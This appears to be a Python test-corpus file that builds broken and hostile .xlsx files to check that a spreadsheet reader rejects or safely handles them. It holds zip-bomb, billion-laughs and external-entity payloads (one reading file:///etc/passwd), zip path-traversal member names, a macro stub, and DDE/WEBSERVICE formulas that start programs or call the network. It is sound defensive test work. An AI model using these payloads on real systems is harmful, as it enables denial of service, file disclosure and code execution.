"""Files that are no workbook, damaged, out of proportion or hostile: the zip and its parts."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path

from tests.workbook.corpus.case import (
    BOOK,
    BOOK_RELS,
    LOADINGS,
    MODEL,
    RETURNS,
    STRINGS,
    TYPES,
    Corpus,
    changed,
    members,
    replaced,
    zipped,
)  # fmt: skip

CASES = Corpus()
NONE, DAMAGED = "no workbook inside, encrypted", "damaged"
SIZE, HOSTILE, ACTIVE = "out of proportion", "hostile package or XML", "active content"
LINK = (
    '<Relationship Id="rId88" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}"{}/></Relationships>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def other_file(name: str, data: bytes, code: str = "FILE_NOT_XLSX") -> None:
    def replace(path: Path) -> None:
        path.write_bytes(data)

    replace.__name__ = name
    CASES.writes(NONE, "reject", code)(replace)


other_file("a_web_page_saved_as_xlsx", b"<html><body><table><tr><td>Date</td></tr></table></body></html>")
other_file("a_web_page_with_a_byte_order_mark", b"\xef\xbb\xbf\r\n<!DOCTYPE html><html></html>")
other_file("a_pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
other_file("a_csv_named_xlsx", b"Date,A0,A1\n2026-01-30,0.01,0.02\n")
other_file("a_csv_in_utf16", "Date,A0\n2026-01-30,0.01\n".encode("utf-16"))
other_file("an_old_xls", OLE + bytes(4096))
other_file(
    "spreadsheet_xml_of_2003", b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
)
other_file("an_encrypted_workbook", OLE + bytes(4000) + "EncryptedPackage".encode("utf-16-le"), "FILE_ENCRYPTED")
other_file("nothing_in_it", b"", "FILE_EMPTY")
other_file("zeros_after_a_crash", bytes(9000))
other_file("only_the_letters_PK", b"PK", "FILE_CORRUPT")


@CASES.writes(NONE, "reject", "FILE_NOT_XLSX")
def a_folder(path: Path) -> Path:
    path.unlink()
    path.mkdir()
    return path


@CASES.writes(NONE, "reject", "FILE_NOT_FOUND")
def a_path_that_leads_nowhere(path: Path) -> None:
    path.unlink()


@CASES.writes(NONE, "reject", "FILE_NOT_XLSX")
def a_zip_of_pictures(path: Path) -> None:
    zipped(path, {"a.jpg": b"1", "b.jpg": b"2"})


@CASES.writes(NONE, "reject", "FILE_NOT_XLSX")
def an_opendocument_sheet(path: Path) -> None:
    zipped(path, {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"})


@CASES.writes(NONE, "reject", "FILE_NOT_XLSX")
def a_binary_workbook(path: Path) -> None:
    zipped(
        path,
        {TYPES: b'<Types><Override ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'},
    )


@CASES.writes(NONE, "reject", "FILE_NOT_XLSX")
def a_word_document(path: Path) -> None:
    zipped(path, {TYPES: b"<Types/>", "word/document.xml": b"<a/>"})


@CASES.writes(NONE, "reject", "FILE_NOT_XLSX")
def a_strict_open_xml_workbook(path: Path) -> None:
    replaced(
        path,
        BOOK,
        "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        "http://purl.oclc.org/ooxml/spreadsheetml/main",
    )


@CASES.writes(NONE, "reject", "FILE_EXTENSION")
def a_macro_workbook_named_xlsx(path: Path) -> None:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    replaced(path, TYPES, kind, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")


@CASES.writes(NONE, "reject", "FILE_ENCRYPTED")
def a_member_with_a_password(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(data)


@CASES.writes(NONE, "ok", same=True)
def a_protected_sheet(path: Path) -> None:
    replaced(
        path,
        RETURNS,
        "</sheetData>",
        '</sheetData><sheetProtection password="CC1A" sheet="1" objects="1" scenarios="1"/>',
    )


# damaged ---------------------------------------------------------------------------------------------------------


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_download_that_stopped_half_way(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_download_without_its_last_bytes(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:-30])


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def bits_flipped_inside_a_sheet(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(RETURNS)
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(RETURNS)
    for at in range(start + info.compress_size // 2, start + info.compress_size // 2 + 20):
        data[at] ^= 0xFF
    path.write_bytes(data)


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_checksum_that_does_not_hold(path: Path) -> None:
    data = bytearray(path.read_bytes())
    at = data.find(RETURNS.encode(), data.find(b"PK\x01\x02")) - 46
    struct.pack_into("<I", data, at + 16, 1)
    path.write_bytes(data)


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def an_unknown_way_of_compression(path: Path) -> None:
    data = bytearray(path.read_bytes())
    at = data.find(RETURNS.encode(), data.find(b"PK\x01\x02")) - 46
    struct.pack_into("<H", data, at + 10, 97)
    path.write_bytes(data)


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_sheet_cut_in_the_middle(path: Path) -> None:
    changed(path, RETURNS, lambda data: data[: len(data) // 2])


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_sheet_that_is_not_there(path: Path) -> None:
    parts = members(path)
    del parts[LOADINGS]
    zipped(path, parts)


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def shared_texts_that_are_not_there(path: Path) -> None:
    parts = members(path)
    del parts[STRINGS]
    zipped(path, parts)


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def no_relationships_of_the_package(path: Path) -> None:
    parts = members(path)
    del parts["_rels/.rels"]
    zipped(path, parts)


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_relationship_to_a_part_that_is_not_there(path: Path) -> None:
    replaced(path, BOOK_RELS, "</Relationships>", LINK.format("customXml", "../customXml/item1.xml", ""))


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_sheet_that_is_no_utf8(path: Path) -> None:
    changed(path, RETURNS, lambda data: data.replace(b"<sheetData>", b"<sheetData>\xff\xfe", 1))


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def an_encoding_that_nobody_knows(path: Path) -> None:
    replaced(path, RETURNS, 'encoding="UTF-8"', 'encoding="klingon"')


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_book_part_in_an_encoding_of_many_bytes(path: Path) -> None:
    replaced(path, BOOK, 'encoding="UTF-8"', 'encoding="shift_jis"')


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_row_number_that_is_none(path: Path) -> None:
    replaced(path, RETURNS, '<row r="3"', '<row r="three"')


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_cell_address_that_is_none(path: Path) -> None:
    replaced(path, RETURNS, 'r="B3"', 'r="3B"')


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def merged_cells_without_a_range(path: Path) -> None:
    replaced(path, RETURNS, "</sheetData>", '</sheetData><mergeCells><mergeCell ref="oops"/></mergeCells>')


@CASES.writes(DAMAGED, "reject", "FILE_CORRUPT")
def a_name_of_a_sheet_that_is_no_number(path: Path) -> None:
    names = '</sheets><definedNames><definedName name="x" localSheetId="one">Returns!A1</definedName></definedNames>'
    replaced(path, BOOK, "</sheets>", names)


@CASES.writes(DAMAGED, "reject", "NUM_BAD", "Returns!A1")
def a_shared_text_beyond_the_last(path: Path) -> None:
    replaced(path, RETURNS, '<c r="A1" t="s"><v>0</v>', '<c r="A1" t="s"><v>4096</v>')


@CASES.writes(DAMAGED, "reject", "NUM_BAD", "Returns!B2")
def a_type_of_cell_that_nobody_knows(path: Path) -> None:
    replaced(path, RETURNS, '<c r="B2">', '<c r="B2" t="quantum">')


# out of proportion -----------------------------------------------------------------------------------------------


@CASES.writes(SIZE, "reject", "ZIP_BOMB", hostile=True)
def a_bomb(path: Path) -> None:
    zipped(path, members(path) | {"xl/media/image1.png": bytes(50_000_000)})


@CASES.writes(SIZE, "reject", "ZIP_BOMB", hostile=True)
def a_bomb_in_a_sheet(path: Path) -> None:
    changed(path, RETURNS, lambda data: data.replace(b"<sheetData>", b"<sheetData>" + b" " * 60_000_000, 1))


@CASES.writes(SIZE, "reject", "ZIP_BOMB")
def more_than_two_thousand_members(path: Path) -> None:
    zipped(path, members(path) | {f"xl/media/{n}.bin": b"" for n in range(2001)})


@CASES.writes(SIZE, "reject", "SHEET_TOO_LARGE", "Returns!XFD1048576")
def a_cell_in_the_last_corner_of_a_sheet_that_is_read(path: Path) -> None:
    replaced(path, RETURNS, "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


@CASES.writes(SIZE, "reject", "SHEET_TOO_LARGE", hostile=True)
def a_staircase_of_far_away_cells(path: Path) -> None:
    rows = "".join(f'<row r="{n}"><c r="HVT{n}"><v>1</v></c></row>' for n in range(40, 20_001))
    replaced(path, RETURNS, "</sheetData>", rows + "</sheetData>")


@CASES.writes(SIZE, "ok", same=True)
def a_false_declared_dimension(path: Path) -> None:
    changed(path, RETURNS, lambda data: data.replace(b'<dimension ref="A1:I31"/>', b'<dimension ref="A1:XFD1048576"/>'))


@CASES.writes(SIZE, "ok", same=True)
def a_dimension_that_is_too_small(path: Path) -> None:
    changed(path, RETURNS, lambda data: data.replace(b'<dimension ref="A1:I31"/>', b'<dimension ref="A1:B2"/>'))


@CASES.writes(SIZE, "ok", same=True)
def formats_without_values_far_away(path: Path) -> None:
    replaced(path, RETURNS, "</sheetData>", '<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')


@CASES.writes(SIZE, "ok", same=True)
def a_million_rows_on_a_sheet_of_the_users_own(path: Path) -> None:
    replaced(path, MODEL, "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


# hostile ---------------------------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))


def with_prologue(name: str, part: str, prologue: str, encoding: str = "utf-8", **more: bool) -> None:
    def rewrite(path: Path) -> None:
        def put(data: bytes) -> bytes:
            head, _, rest = data.decode().partition("?>")
            return f"{head.replace('UTF-8', encoding.upper())}?>{prologue}{rest}".encode(encoding)

        changed(path, part, put)

    rewrite.__name__ = name
    CASES.writes(HOSTILE, "reject", "XML_ENTITY", **more)(rewrite)


with_prologue("a_billion_laughs", STRINGS, f'<!DOCTYPE sst [<!ENTITY a0 "ha">{LAUGHS}]>', hostile=True)
with_prologue("seventy_kilobytes_of_entities", RETURNS, "<!DOCTYPE a [" + '<!ENTITY x "y">' * 4700 + "]>", hostile=True)
with_prologue("a_document_type_in_utf16", RETURNS, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "utf-16")
with_prologue("an_outside_entity_in_the_relationships", BOOK_RELS, '<!DOCTYPE a SYSTEM "http://example.com/a.dtd">')
with_prologue("a_document_type_behind_a_comment", BOOK, "<!-- <workbook> --><!DOCTYPE a>")
with_prologue("a_document_type_far_behind_blanks", STRINGS, " " * 9000 + "<!DOCTYPE a>")


def with_member(name: str, code: str, member: str) -> None:
    def add(path: Path) -> None:
        zipped(path, members(path) | {member: b"<a/>"})

    add.__name__ = name
    CASES.writes(HOSTILE, "reject", code)(add)


with_member("a_member_above_the_package", "ZIP_PATH", "../../evil.xml")
with_member("a_member_with_an_absolute_name", "ZIP_PATH", "/etc/cron.d/evil")
with_member("a_member_named_as_on_windows", "ZIP_PATH", "xl\\evil.xml")
with_member("a_member_with_a_drive", "ZIP_PATH", "C:evil.xml")
with_member("a_second_sheet_in_other_case", "ZIP_DUPLICATE", "xl/worksheets/SHEET1.xml")


@CASES.writes(HOSTILE, "reject", "ZIP_PATH")
def a_relationship_that_leaves_the_package(path: Path) -> None:
    replaced(path, BOOK_RELS, "worksheets/sheet1.xml", "../../../etc/passwd")


@CASES.writes(HOSTILE, "reject", "FILE_CORRUPT", hostile=True)
def a_sheet_of_elements_inside_elements(path: Path) -> None:
    changed(path, BOOK, lambda data: data.replace(b"<sheets>", b"<a>" * 200_000 + b"<sheets>", 1))


@CASES.writes(HOSTILE, "ok", hostile=True)
def half_a_million_nested_elements_that_close(path: Path) -> None:
    nested = b"<x>" * 200_000 + b"</x>" * 200_000
    changed(path, MODEL, lambda data: data.replace(b"</worksheet>", nested + b"</worksheet>", 1))


@CASES.writes(HOSTILE, "ok", hostile=True, same=True)
def a_formula_of_thousands_of_parentheses(path: Path) -> None:
    formula = "(" * 5000 + "1" + ")" * 5000
    replaced(path, MODEL, "</sheetData>", f'<row r="90"><c r="T90"><f>{formula}</f><v>1</v></c></row></sheetData>')


@CASES.writes(HOSTILE, "ok", same=True)
def half_a_character_in_a_text(path: Path) -> None:
    text = '<row r="90"><c r="T90" t="inlineStr"><is><t>_xD800_</t></is></c></row></sheetData>'
    replaced(path, MODEL, "</sheetData>", text)


@CASES.writes(HOSTILE, "reject", "NUM_BAD", "Returns!C3")
def half_a_character_in_the_place_of_a_number(path: Path) -> None:
    changed(
        path,
        RETURNS,
        lambda data: put_cell(
            data, "C3", ' t="inlineStr"', "<is><t>_xD800_ \x1b[31m</t></is>".replace("\x1b", "_x001B_")
        ),
    )


def put_cell(data: bytes, cell: str, attributes: str, inner: str) -> bytes:
    """A cell's XML in the place of the one that is there."""
    start = data.index(f'<c r="{cell}"'.encode())
    end = data.index(b"</c>", start) + 4
    return data[:start] + f'<c r="{cell}"{attributes}>{inner}</c>'.encode() + data[end:]


# active content --------------------------------------------------------------------------------------------------


@CASES.writes(ACTIVE, "ok", same=True)
def a_macro(path: Path) -> Path:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    replaced(path, TYPES, kind, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    replaced(path, BOOK_RELS, "</Relationships>", LINK.format("vbaProject", "vbaProject.bin", ""))
    zipped(path, members(path) | {"xl/vbaProject.bin": OLE + b"Sub Auto_Open()"})
    return path.rename(path.with_suffix(".xlsm"))


@CASES.writes(ACTIVE, "ok", same=True)
def a_link_to_a_book_elsewhere(path: Path) -> None:
    link = LINK.format("externalLink", "externalLinks/externalLink1.xml", "")
    replaced(path, BOOK_RELS, "</Relationships>", link)
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + LINK.format("externalLinkPath", "file:///\\\\server\\share\\other.xlsx", ' TargetMode="External"').encode()
    )
    zipped(path, members(path) | {
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>", "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
    })  # fmt: skip


@CASES.writes(ACTIVE, "ok", same=True)
def formulas_that_start_programs_or_ask_the_network(path: Path) -> None:
    row = (
        '<row r="90"><c r="T90"><f>cmd|\'/C calc\'!A0</f><v>0</v></c>'
        '<c r="U90" t="str"><f>_xlfn.WEBSERVICE("http://example.com/"&amp;Returns!B2)</f><v>x</v></c>'
        '<c r="V90"><f>[1]Sheet1!A1</f><v>3</v></c></row></sheetData>'
    )
    replaced(path, MODEL, "</sheetData>", row)
